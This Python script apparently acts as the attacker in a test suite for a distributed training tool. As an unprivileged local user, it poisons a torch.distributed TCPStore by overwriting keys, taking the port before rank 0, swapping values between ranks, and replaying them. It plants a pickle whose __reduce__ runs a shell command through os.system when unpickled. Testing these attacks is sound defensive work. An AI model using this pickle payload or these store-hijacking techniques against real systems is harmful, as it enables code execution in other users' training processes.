"""Another user of the machine, who attacks the place where ranks meet: ``stranger.py HOW PORT FOLDER``.

It says in FOLDER/ready that it has begun, and in FOLDER/done that it has done its worst. What it plants makes whoever
unpickles it write FOLDER/ran.
"""

import encodings.idna  # noqa: F401 - nothing can be imported any more when it is another user
import os
import pickle
import socket
import sys
import time
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

NOBODY = 65534
HOW, PORT, FOLDER = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])
# Names under which ranks have looked for each other's values, now or before.
GUESSED = [f"workbench/1/{round_}/{rank}" for round_ in range(1, 9) for rank in range(2)]
GUESSED += [f"workbench/0/{what}" for what in ("ticket", "hello/0", "hello/1")]


class Evil:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, (f"id > {FOLDER}/ran",)


EVIL = pickle.dumps(Evil())


def connected():
    """A store at the port, as soon as there is one."""
    while True:
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=1).close()
            return dist.TCPStore("127.0.0.1", PORT, timeout=timedelta(seconds=30), wait_for_workers=False)
        except (OSError, RuntimeError):  # not yet
            time.sleep(0.05)


def write(store, value_of):
    """Overwrite what is there, with what ``value_of(key)`` says; True if something was."""
    keys = [key for key in store.list_keys() if "workbench" in key and not key.endswith("init/0")]
    for key in keys:
        store.set(key, value_of(key))
    return bool(keys)


def overwrite():
    """Write evil under every key that there is, again and again."""
    store = connected()
    while True:
        if write(store, lambda key: EVIL):
            (FOLDER / "done").touch()
        time.sleep(0.01)


def be_first():
    """Take the port before rank 0, with evil under every key that can be guessed."""
    store = dist.TCPStore("127.0.0.1", PORT, is_master=True, wait_for_workers=False)
    for key in GUESSED:
        store.set(key, EVIL)
    (FOLDER / "done").touch()
    time.sleep(60)


def move():
    """Write what one rank has said under the name of the other one."""
    store = connected()
    other = {"0": "1", "1": "0"}
    while True:
        for key in store.list_keys():
            head, slash, rank = key.rpartition("/")
            if "workbench" in key and rank in other and "/init/" not in key:
                store.set(f"{head}{slash}{other[rank]}", store.get(key))
                (FOLDER / "done").touch()
        time.sleep(0.005)


def replay():
    """Note what the ranks said in their first meeting, and say it again in the next ones, under the same names."""
    store = connected()
    said = {}
    while True:
        for key in store.list_keys():
            if "workbench" in key and "ticket" not in key:
                said.setdefault(key, store.get(key))
        if (FOLDER / "again").exists():
            for key, value in said.items():
                store.set(key, value)
            (FOLDER / "done").touch()
        time.sleep(0.005)


os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)
(FOLDER / "ready").touch()
{"overwrite": overwrite, "be first": be_first, "move": move, "replay": replay}[HOW]()
